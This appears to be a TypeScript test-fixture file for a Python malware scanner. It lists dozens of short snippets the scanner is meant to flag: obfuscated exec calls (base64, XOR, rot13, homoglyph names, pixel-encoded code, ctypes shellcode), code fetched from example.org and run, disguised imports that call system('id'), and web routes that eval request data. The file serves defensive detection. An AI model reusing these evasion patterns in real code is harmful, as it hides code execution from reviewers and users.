import type { ToFind } from './pack.js';

const DECODED = 'exec(base64.b64decode("cHJpbnQoMSk="))';

export const CODE_TO_FIND: readonly ToFind[] = [
  ['runs_hidden_code', 'decoded text', `import base64\n${DECODED}\n`],
  [
    'runs_hidden_code',
    'other names',
    'import base64 as b\nfrom builtins import exec as e\nx = b.b64decode("eA==")\ny = x\ne(y)\n',
  ],
  [
    'runs_hidden_code',
    'all names of a module',
    'from zlib import *\nfrom base64 import *\nexec(decompress(b85decode("x")))\n',
  ],
  [
    'runs_hidden_code',
    'a lambda',
    'import zlib,base64\n_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))\nexec((_)(b"x=="))\n',
  ],
  [
    'runs_hidden_code',
    'functions',
    'import binascii\ndef d(s):\n    r = binascii.unhexlify(s)\n    return r.decode()\ndef run(c):\n    exec(c, {})\nrun(d("70"))\n',
  ],
  [
    'runs_hidden_code',
    'a method',
    'import gzip\nclass L:\n    def __init__(self, b):\n        self.code = gzip.decompress(b)\n    def go(self):\n        eval(compile(self.code, "x", "exec"))\nL(b"").go()\n',
  ],
  [
    'runs_hidden_code',
    'getattr',
    'import builtins, lzma\ngetattr(builtins, "ex" + "ec")(lzma.decompress(b""))\n',
  ],
  ['runs_hidden_code', 'the dict of built-in functions', '__builtins__["exec"](bytes.fromhex("70"))\n'],
  ['runs_hidden_code', 'numbers', 'exec("".join(chr(c) for c in [112, 114]))\n'],
  ['runs_hidden_code', 'bytes of numbers', 'exec(bytes([112, 114, 105]).decode())\n'],
  ['runs_hidden_code', 'map and chr', 'exec("".join(map(chr, [112, 114])))\n'],
  ['runs_hidden_code', 'exclusive or', 'k = 7\ndata = b"abc"\nout = bytes(b ^ k for b in data)\nexec(out)\n'],
  [
    'runs_hidden_code',
    'a loop of exclusive or',
    'out = ""\nfor c in "abc":\n    out += chr(ord(c) ^ 3)\nexec(out)\n',
  ],
  ['runs_hidden_code', 'rot13', 'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n'],
  ['runs_hidden_code', 'reversed text', 'exec(")1(tnirp"[::-1])\n'],
  ['runs_hidden_code', 'joined text', 'exec("".join(["import o", "s"]))\n'],
  [
    'runs_hidden_code',
    'decryption',
    'from cryptography.fernet import Fernet\nexec(Fernet(b"k").decrypt(b"x"))\n',
  ],
  [
    'runs_hidden_code',
    'a thread',
    'import threading, base64\nthreading.Thread(target=exec, args=(base64.b64decode("x"),)).start()\n',
  ],
  ['runs_hidden_code', 'map', 'import base64\nlist(map(exec, [base64.b64decode("x")]))\n'],
  [
    'runs_hidden_code',
    'letters of other shapes',
    'import base64\n\u{1d41e}\u{1d431}\u{1d41e}\u{1d41c}(base64.b64decode("x"))\n',
  ],
  [
    'runs_hidden_code',
    'either way',
    'import base64, sys\nif sys.argv:\n    c = base64.b64decode("x")\nelse:\n    c = "1"\nexec(c)\n',
  ],
  [
    'runs_hidden_code',
    'another file',
    {
      '__init__.py': 'from .a import load\nexec(load())\n',
      'a.py': 'import base64\ndef load():\n    return base64.b64decode("x")\nexec\n',
    },
  ],
  [
    'runs_hidden_code',
    'a picture',
    'from PIL import Image\npx = Image.open("a.png").getdata()\nexec(bytes((p[0] & 15) << 4 | (p[1] >> 4) for p in px))\n',
  ],
  [
    'runs_downloaded_code',
    'a request',
    'import requests\nexec(requests.get("https://example.org/a").text)\n',
  ],
  [
    'runs_downloaded_code',
    'urllib',
    'from urllib.request import urlopen as u\ncode = u("https://example.org/a").read().decode()\neval(compile(code, "a", "exec"))\n',
  ],
  [
    'runs_downloaded_code',
    'a session that waits',
    'import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://example.org") as r:\n            exec(await r.text())\n',
  ],
  [
    'runs_downloaded_code',
    'a pickle',
    'import pickle, requests\npickle.loads(requests.get("https://example.org").content)\n',
  ],
  [
    'runs_downloaded_code',
    'a socket',
    'import socket\ns = socket.socket()\ns.connect(("example.org", 1))\nexec(s.recv(9))\n',
  ],
  [
    'runs_data_as_code',
    'bytes of a file',
    'import os\np = os.path.join(os.path.dirname(__file__), "logo.png")\nexec(open(p, "rb").read())\n',
  ],
  ['runs_data_as_code', 'a text file', 'with open("notes.txt") as f:\n    exec(f.read())\n'],
  [
    'runs_data_as_code',
    'a path',
    'from pathlib import Path\nexec((Path(__file__).parent / "data.bin").read_bytes())\n',
  ],
  ['runs_compiled_code', 'marshal', 'import marshal\nexec(marshal.loads(b"\\xe3"))\n'],
  ['hides_names', 'an import', 'm = __import__("o" + "s")\nm.system\n'],
  ['hides_names', 'reversed', 'import importlib\nimportlib.import_module("ssecorpbus"[::-1])\n'],
  [
    'hides_names',
    'decoded',
    'import base64, importlib\ns = importlib.import_module(base64.b64decode("c3VicHJvY2Vzcw==").decode())\n',
  ],
  ['hides_names', 'a function', 'import os\ngetattr(os, "sys" + "tem")("id")\n'],
  [
    'hides_names',
    'unknown names',
    'import builtins, base64\ngetattr(builtins, base64.b85decode("x").decode())("1")\n',
  ],
  ['hides_names', 'format', '__import__("{}{}".format("sock", "et"))\n'],
  ['hides_names', 'escapes', '__import__("\\x6f\\x73").popen("id")\n'],
  [
    'route_runs_code',
    'a route of the host',
    'from server import PromptServer\n@PromptServer.instance.routes.post("/x")\nasync def h(request):\n    data = await request.json()\n    exec(data["code"])\n',
  ],
  [
    'route_runs_code',
    'a router',
    'from aiohttp import web\nasync def h(req):\n    return eval(req.query["q"])\ndef setup(app):\n    app.router.add_get("/x", h)\n',
  ],
  ['runs_hidden_code', 'a lambda that is called at once', '(lambda f, g: f(g(b"eA==")))(exec, __import__("base64").b64decode)\n'],
  ['runs_hidden_code', 'bytes for the processor', 'import ctypes, base64\nb = ctypes.create_string_buffer(base64.b64decode("x"))\nctypes.cast(b, ctypes.CFUNCTYPE(ctypes.c_void_p))()\n'],
  ['runs_downloaded_code', 'a module', 'import requests, importlib.util\nopen("/tmp/m.py", "wb").write(requests.get("https://example.org").content)\ns = importlib.util.spec_from_file_location("m", "/tmp/m.py")\n'],
  ['runs_downloaded_code', 'an archive of modules', 'import urllib.request, sys\nurllib.request.urlretrieve("https://example.org/p.zip", "/tmp/p.zip")\nsys.path.insert(0, "/tmp/p.zip")\n'],
  ['hides_names', 'numbers', 'm = __import__("".join(map(chr, [111, 115])))\ngetattr(m, "system")("id")\n'],
];
